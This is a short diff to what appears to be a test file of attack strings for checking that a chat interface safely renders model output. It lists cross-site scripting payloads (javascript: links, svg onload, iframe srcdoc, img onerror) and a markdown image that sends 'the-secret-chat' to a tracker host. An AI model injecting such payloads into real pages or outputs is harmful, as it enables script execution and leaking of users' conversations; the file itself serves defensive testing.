@@ -38,7 +38,7 @@ ATTACKS = [  # model text that tries to run script, load a URL, or become a live
     '<a href="javascript:window.__pwned = \'a\'">a raw link</a>',
     "[a markdown link](javascript:window.__pwned='md')",
     f"![an image that would leak the chat]({TRACKER}?exfiltrate=the-secret-chat)",
-    f'<svg onload="window.__pwned = \'svg\'"></svg><iframe srcdoc="<script>parent.__pwned=\'iframe\'</script>"></iframe>',
+    '<svg onload="window.__pwned = \'svg\'"></svg><iframe srcdoc="<script>parent.__pwned=\'iframe\'</script>"></iframe>',
     '<details open ontoggle="window.__pwned = \'details\'">open me</details>',
     f'``<img src="{TRACKER}?code-run" onerror="window.__pwned = \'code-run\'">`',  # backtick runs that don't match
     f'\\`<img src="{TRACKER}?escaped" onerror="window.__pwned = \'escaped\'">`',  # an escaped backtick opens no code
